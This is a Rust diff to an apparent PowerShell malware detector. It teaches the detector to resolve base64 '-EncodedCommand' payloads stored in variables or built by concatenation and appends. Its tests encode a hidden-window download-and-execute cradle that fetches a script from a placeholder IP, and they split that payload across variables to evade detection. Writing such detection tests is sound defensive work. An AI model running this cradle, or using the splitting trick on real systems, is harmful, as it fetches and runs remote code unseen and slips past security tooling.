@@ -27,6 +27,15 @@ static FROM_B64: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"(?i)\[(?:System\.)?Convert\]::FromBase64String\(\s*(?:["']([A-Za-z0-9+/=\s]*)["']|([^)]*))\)"#)
         .expect("b64")
 });
+/// `-EncodedCommand $var` / `-enc ${var}`: the payload is in a variable.
+static ENC_CMD_VAR: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)(?:^|\s)[-/]e(?:c|n|nc|nco|ncod|ncode|ncoded|ncodedc|ncodedco|ncodedcom|ncodedcomm|ncodedcomma|ncodedcomman|ncodedcommand)?\s+\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?")
+        .expect("encvar")
+});
+/// `$name += value`.
+static APPEND: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)^\s*\$([A-Za-z_][A-Za-z0-9_]*)\s*\+=\s*(.*)$").expect("append")
+});
 static HIDDEN: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?i)(?:^|\s)-(?:w|wi|win|wind|windo|window|windows|windowst|windowsty|windowstyl|windowstyle)\s+(?:hidden|1)\b")
         .expect("hidden")
@@ -320,6 +329,9 @@ struct Cx<'s, 'a> {
     has_iex: bool,
 }
 
+/// Longest string value a variable is resolved to.
+const MAX_VAR_LEN: usize = 64 * 1024;
+
 const DOWNLOADERS: &[&str] = &[
     "invoke-webrequest",
     "iwr",
@@ -372,6 +384,53 @@ impl<'s, 'a> Cx<'s, 'a> {
         out.replace('\\', "/")
     }
 
+    /// The value of a right-hand side made only of string literals and known
+    /// variables joined with `+`: `"a"`, `'b' + "c"`, `$x + 'd'`.
+    fn literal_value(&self, value: &str) -> Option<String> {
+        let value = value.trim().trim_end_matches(';').trim_end();
+        let value = value
+            .strip_prefix('(')
+            .and_then(|v| v.strip_suffix(')'))
+            .unwrap_or(value);
+        let mut out = String::new();
+        for part in split_plus(value)? {
+            let part = part.trim();
+            let quoted = part.len() >= 2
+                && (part.starts_with('\'') && part.ends_with('\'')
+                    || part.starts_with('"') && part.ends_with('"'));
+            if quoted {
+                out.push_str(&self.resolve(part));
+            } else {
+                let name = part.strip_prefix('$')?;
+                let name = name
+                    .strip_prefix('{')
+                    .and_then(|n| n.strip_suffix('}'))
+                    .unwrap_or(name);
+                if name.is_empty() || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
+                    return None;
+                }
+                out.push_str(self.var(name)?);
+            }
+            if out.len() > MAX_VAR_LEN {
+                return None;
+            }
+        }
+        Some(out)
+    }
+
+    /// A variable's known string value (PowerShell names are case-insensitive).
+    fn var(&self, name: &str) -> Option<&str> {
+        self.vars
+            .get(name)
+            .or_else(|| {
+                self.vars
+                    .iter()
+                    .find(|(k, _)| k.eq_ignore_ascii_case(name))
+                    .map(|(_, v)| v)
+            })
+            .map(String::as_str)
+    }
+
     fn refs(&self, seg: &str) -> Vec<String> {
         let mut out = Vec::new();
         for c in VAR_REF.captures_iter(seg) {
@@ -404,12 +463,17 @@ impl<'s, 'a> Cx<'s, 'a> {
         let binding = assign_to.as_ref().map(|n| format!("${n}"));
         if let (Some(name), true) = (&assign_to, body_off > 0) {
             let value = line[body_off..].trim();
-            if (value.starts_with('\'') && value.ends_with('\'')
-                || value.starts_with('"') && value.ends_with('"'))
-                && value.len() >= 2
-            {
-                let v = self.resolve(value);
+            if let Some(v) = self.literal_value(value) {
                 self.vars.insert(name.clone(), v);
+            }
+        } else if let Some(c) = APPEND.captures(line) {
+            let name = c.get(1).map(|m| m.as_str()).unwrap_or("");
+            let value = c.get(2).map(|m| m.as_str()).unwrap_or("").trim();
+            if let (Some(old), Some(v)) = (self.vars.get(name), self.literal_value(value))
+                && old.len() + v.len() <= MAX_VAR_LEN
+            {
+                let joined = format!("{old}{v}");
+                self.vars.insert(name.to_string(), joined);
             }
         }
         let segs = segments(line);
@@ -999,12 +1063,32 @@ impl<'s, 'a> Cx<'s, 'a> {
         {
             return;
         }
-        for c in ENC_CMD.captures_iter(line) {
-            let Some(m) = c.get(1) else { continue };
-            let Some(code) = b64_text(m.as_str()) else {
+        let mut found: Vec<(usize, usize, String)> = ENC_CMD
+            .captures_iter(line)
+            .filter_map(|c| c.get(1))
+            .map(|m| (m.start(), m.end(), m.as_str().to_string()))
+            .collect();
+        // `-EncodedCommand $payload`, the base64 assigned earlier.
+        for c in ENC_CMD_VAR.captures_iter(line) {
+            let (Some(all), Some(name)) = (c.get(0), c.get(1)) else {
                 continue;
             };
-            let (start, end) = (base + m.start(), base + m.end());
+            if let Some(v) = self.var(name.as_str()) {
+                let v = v.trim();
+                if v.len() >= 12
+                    && v.bytes()
+                        .all(|b| b.is_ascii_alphanumeric() || b"+/=".contains(&b))
+                {
+                    let s = all.start() + all.as_str().len() - all.as_str().trim_start().len();
+                    found.push((s, all.end(), v.to_string()));
+                }
+            }
+        }
+        for (ms, me, payload) in found {
+            let Some(code) = b64_text(&payload) else {
+                continue;
+            };
+            let (start, end) = (base + ms, base + me);
             let ev = Evidence::new(
                 Op::DynamicCode,
                 A::CallTool,
@@ -1125,6 +1209,50 @@ impl<'s, 'a> Cx<'s, 'a> {
     }
 }
 
+/// Splits `a + b + c` on `+` outside quotes; `None` when there are
+/// parentheses or other operators outside quotes (not a plain concatenation).
+fn split_plus(v: &str) -> Option<Vec<&str>> {
+    let mut out = Vec::new();
+    let mut quote: Option<u8> = None;
+    let mut seg = 0;
+    let b = v.as_bytes();
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        if let Some(q) = quote {
+            if c == b'`' && q == b'"' {
+                i += 2;
+                continue;
+            }
+            if c == q {
+                // `''` inside a single-quoted string is an escaped quote.
+                if q == b'\'' && b.get(i + 1) == Some(&b'\'') {
+                    i += 2;
+                    continue;
+                }
+                quote = None;
+            }
+            i += 1;
+            continue;
+        }
+        match c {
+            b'"' | b'\'' => quote = Some(c),
+            b'+' => {
+                out.push(&v[seg..i]);
+                seg = i + 1;
+            }
+            b'(' | b')' | b'|' | b';' | b'[' | b'-' | b'*' => return None,
+            _ => {}
+        }
+        i += 1;
+    }
+    if quote.is_some() {
+        return None;
+    }
+    out.push(&v[seg..]);
+    (out.len() <= 256).then_some(out)
+}
+
 fn file_name(p: &str) -> String {
     p.trim_matches(['"', '\''])
         .replace('\\', "/")
@@ -1212,6 +1340,48 @@ mod tests {
         ));
         assert!(
             find(&ev, Op::EnvDump).is_some_and(|e| e.has(Tag::Encoded)),
+            "{ev:#?}"
+        );
+    }
+
+    #[test]
+    fn encoded_command_in_a_variable_is_resolved() {
+        let payload =
+            utf16_b64("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.91/w.ps1')");
+        let code = format!(
+            "$wd = \"{payload}\"\nStart-Process powershell.exe -WindowStyle Hidden -ArgumentList \"-NoP -W Hidden -EncodedCommand $wd\""
+        );
+        let ev = run(&code);
+        let dc = ev
+            .iter()
+            .find(|e| e.op == Op::DynamicCode && e.instrument == "-EncodedCommand")
+            .expect("encoded");
+        assert_eq!(dc.location.start_line, 2);
+        assert!(dc.snippet.contains("-EncodedCommand $wd"), "{dc:#?}");
+        let inner = find(&ev, Op::DownloadExec).expect("decoded payload analysed");
+        assert!(inner.has(Tag::RawIp) && inner.has(Tag::Silenced), "{ev:#?}");
+        assert_eq!(inner.origin, Origin::Decoded);
+        // Split over a concatenation and an append, referenced as ${name}.
+        let (a, b) = payload.split_at(20);
+        let ev = run(&format!(
+            "$p1 = '{a}'\n$P = $p1 + \"{}\"\n$P += '{}'\npwsh -enc ${{p}}",
+            &b[..10],
+            &b[10..]
+        ));
+        assert!(find(&ev, Op::DownloadExec).is_some(), "{ev:#?}");
+    }
+
+    #[test]
+    fn variable_after_e_flag_that_is_not_a_payload_is_ignored() {
+        // `-e $pattern` of another tool, and a base64 value that is binary.
+        let ev = run("$pattern = 'TODO|FIXME'\nselect-string -e $pattern *.ps1");
+        assert!(find(&ev, Op::DynamicCode).is_none(), "{ev:#?}");
+        let ev = run("$k = \"3q2+7wABAgMEBQYHCAkKCwwNDg8Q\"\npwsh -enc $k");
+        assert!(find(&ev, Op::DynamicCode).is_none(), "{ev:#?}");
+        // A value built with an operator is not a literal.
+        let ev = run("$x = 'a' -f $y\npwsh -enc $x");
+        assert!(
+            ev.iter().all(|e| e.instrument != "-EncodedCommand"),
             "{ev:#?}"
         );
     }
